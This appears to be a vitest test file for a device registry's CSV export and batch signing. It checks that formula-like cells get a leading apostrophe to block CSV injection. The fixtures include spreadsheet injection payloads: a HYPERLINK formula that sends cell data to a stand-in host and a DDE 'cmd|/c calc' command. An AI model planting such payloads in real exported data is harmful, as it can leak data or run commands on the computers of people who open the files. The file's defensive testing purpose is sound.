import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { csvSafeRow, neutraliseCell, parseCsvLine } from '../../main/core/ids/csv.js';
import { readIdLines, type IdFileShape } from '../../main/core/ids/id-file.js';
import { batchSign } from '../../main/core/keys/batch-sign.js';
import { generateKeyPair, signDeviceId, verifyDeviceId } from '../../main/core/keys/ecdsa.js';
import { MIGRATIONS } from '../../main/core/db/migrations/index.js';
import { exportRecords, RECORD_COLUMNS } from '../../main/core/registry/records.js';
import { addProduct, dbAt } from '../helpers/db.js';

// CSV injection (OWASP): cells that Excel/WPS would run as formulas get a leading apostrophe.

function sink() {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer, _enc, cb) {
      chunks.push(Buffer.from(chunk));
      cb();
    },
  });
  return { out, text: () => Buffer.concat(chunks).toString('utf8') };
}

const HOSTILE = {
  hwid: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  sn: '+1',
  last_error: '@x',
  port: '\t=cmd|/c calc!A1',
  operator: '\r=1+1',
};

describe('neutraliseCell', () => {
  it('prefixes = + - @ tab CR with an apostrophe and leaves everything else alone', () => {
    for (const v of ['=1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '-A1']) expect(neutraliseCell(v)).toBe(`'${v}`);
    for (const v of ['A-1', ' =1', 'abc', '', '设备', "'=1"]) expect(neutraliseCell(v)).toBe(v);
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell(undefined)).toBeUndefined();
    expect(neutraliseCell(3)).toBe(3);
  });

  it('csvSafeRow quotes after neutralising, so a CR-led cell stays one field', () => {
    expect(parseCsvLine(csvSafeRow(['\r=1', '=a,b', 'ok'], true))).toEqual(["'\r=1", "'=a,b", 'ok']);
  });
});

describe('exportRecords CSV neutralises unit, scanner and platform text; JSON stays raw', () => {
  function ledger() {
    const db = dbAt(MIGRATIONS[MIGRATIONS.length - 1].version);
    addProduct(db, 1);
    db.prepare(
      `INSERT INTO devices (product_id, device_id, hwid, sn, status, station, operator, port, created_at, updated_at, last_error)
       VALUES (1, @device_id, @hwid, @sn, 'failed', 'A1', @operator, @port, '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:00.000Z', @last_error)`,
    ).run({ device_id: 'DEV-1', ...HOSTILE });
    db.prepare(
      `INSERT INTO devices (product_id, device_id, status, station, operator, created_at, updated_at)
       VALUES (1, '-A1', 'allocated', 'A1', 'op', '2026-01-02T00:00:00.000Z', '2026-01-02T00:00:00.000Z')`,
    ).run();
    return db;
  }

  it('every formula-like cell starts with an apostrophe in CSV, a device id "-A1" included; JSON keeps them raw', async () => {
    const s = sink();
    await exportRecords(ledger(), {}, 'csv', s.out);
    const [header, ...rows] = s.text().slice(1).split('\r\n').filter(Boolean).map(parseCsvLine);
    expect(header).toEqual([...RECORD_COLUMNS]);
    const recs = rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
    expect(recs[0]).toMatchObject({ device_id: 'DEV-1', hwid: `'${HOSTILE.hwid}`, sn: "'+1", last_error: "'@x", port: `'${HOSTILE.port}`, operator: "'\r=1+1" });
    expect(recs[1].device_id).toBe("'-A1");
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // JSON is for programs: the values exactly as stored.
    const j = sink();
    await exportRecords(ledger(), {}, 'json', j.out);
    const doc = JSON.parse(j.text()) as Record<string, unknown>[];
    expect(doc[0]).toMatchObject({ device_id: 'DEV-1', ...HOSTILE });
    expect(doc[1].device_id).toBe('-A1');
  });
});

describe('batchSign output neutralises the passed-through columns, not the signed payload', () => {
  it("an sn of '=1+1' comes out as \"'=1+1\"; the id and signature stay exact and verify", async () => {
    const pair = generateKeyPair();
    const s = sink();
    let shape: IdFileShape | undefined;
    async function* lines() {
      yield 'device_id,sn,=note';
      yield '-A1,=1+1,@x';
      yield 'OK-2,plain,-';
    }
    const r = await batchSign(readIdLines(lines(), (x) => (shape = x)), () => shape, (id) => signDeviceId(pair.privateKey, 7, id), s.out);
    expect(r).toEqual({ signed: 2, invalid: [] });
    const [header, ...rows] = s.text().trim().split('\n').map(parseCsvLine);
    expect(header).toEqual(['device_id', 'signature', 'sn', "'=note"]);
    expect(rows.map((x) => [x[0], x[2], x[3]])).toEqual([
      ['-A1', "'=1+1", "'@x"],
      ['OK-2', 'plain', "'-"],
    ]);
    for (const [id, sig] of rows) expect(verifyDeviceId(pair.publicKey, 7, id, sig)).toBe(true);
  });
});
